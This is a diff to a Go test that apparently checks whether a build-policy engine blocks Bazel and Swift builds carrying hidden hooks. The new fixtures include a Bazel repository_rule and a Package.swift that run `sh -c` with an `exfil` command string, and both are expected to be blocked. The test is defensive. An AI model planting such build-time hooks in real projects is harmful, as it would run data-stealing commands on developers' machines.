@@ -79,11 +79,15 @@ func TestProjectBuilds64(t *testing.T) {
 		"okbazel/WORKSPACE": "",
 		"okbazel/BUILD.bazel": "genrule(\n    name = \"version\",\n    srcs = [\"VERSION\"],\n    outs = [\"version.h\"],\n    cmd = \"echo \\\"#define VERSION \\\\\\\"$$(cat $(location VERSION))\\\\\\\"\\\" > $@\",\n)\n" +
 			"genrule(name = \"gen\", outs = [\"gen.go\"], cmd = \"$(location //tools:gen) --out $@\", tools = [\"//tools:gen\"])\n",
-		"swift/Package.swift":   "// swift-tools-version:5.9\nimport PackageDescription\nimport Foundation\nlet p = Process(); p.executableURL = URL(fileURLWithPath: \"/bin/sh\"); p.arguments = [\"-c\", \"" + exfil + "\"]; try? p.run()\nlet package = Package(name: \"demo\")\n",
-		"okswift/Package.swift": "// swift-tools-version:5.9\nimport PackageDescription\nlet package = Package(\n    name: \"demo\",\n    dependencies: [.package(url: \"https://github.com/apple/swift-argument-parser\", from: \"1.3.0\")],\n    targets: [.executableTarget(name: \"demo\")]\n)\n",
+		"bazelrepo/WORKSPACE":       "load(\"//tools:deps.bzl\", \"deps\")\ndeps()\n",
+		"bazelrepo/tools/deps.bzl":  "def _impl(repository_ctx):\n    repository_ctx.execute([\"sh\", \"-c\", \"" + exfil + "\"])\nfetcher = repository_rule(implementation = _impl)\n",
+		"okbazelrepo/MODULE.bazel":  "module(name = \"demo\", version = \"1.0\")\nbazel_dep(name = \"rules_go\", version = \"0.46.0\")\n",
+		"okbazelrepo/tools/ver.bzl": "def _impl(repository_ctx):\n    r = repository_ctx.execute([\"git\", \"rev-parse\", \"HEAD\"])\n    p = repository_ctx.execute([repository_ctx.which(\"python3\"), \"gen.py\"])\nversion = repository_rule(implementation = _impl)\n",
+		"swift/Package.swift":       "// swift-tools-version:5.9\nimport PackageDescription\nimport Foundation\nlet p = Process(); p.executableURL = URL(fileURLWithPath: \"/bin/sh\"); p.arguments = [\"-c\", \"" + exfil + "\"]; try? p.run()\nlet package = Package(name: \"demo\")\n",
+		"okswift/Package.swift":     "// swift-tools-version:5.9\nimport PackageDescription\nlet package = Package(\n    name: \"demo\",\n    dependencies: [.package(url: \"https://github.com/apple/swift-argument-parser\", from: \"1.3.0\")],\n    targets: [.executableTarget(name: \"demo\")]\n)\n",
 	}
 	for _, dir := range []string{"run", "okrun", "test", "oktest", "xtask", "okxtask", "glist", "gconcat", "okgradle", "gsrc", "gsrcjava", "okgsrc", "wrap", "okwrap",
-		"jvmcfg", "okjvmcfg", "mvntest", "okmvntest", "mix", "okmix", "ant", "okant", "bazel", "okbazel", "swift", "okswift"} {
+		"jvmcfg", "okjvmcfg", "mvntest", "okmvntest", "mix", "okmix", "ant", "okant", "bazel", "okbazel", "bazelrepo", "okbazelrepo", "swift", "okswift"} {
 		files[dir+"/.git/HEAD"] = "ref: refs/heads/main\n"
 	}
 	old := time.Now().Add(-time.Hour)
@@ -123,6 +127,8 @@ func TestProjectBuilds64(t *testing.T) {
 		{"okant", "ant build", dsl.Allow},
 		{"bazel", "bazel build //...", dsl.Block},
 		{"okbazel", "bazel build //...", dsl.Allow},
+		{"bazelrepo", "bazel build //...", dsl.Block},
+		{"okbazelrepo", "bazel test //...", dsl.Allow},
 		{"swift", "swift build", dsl.Block},
 		{"okswift", "swift build", dsl.Allow},
 	} {
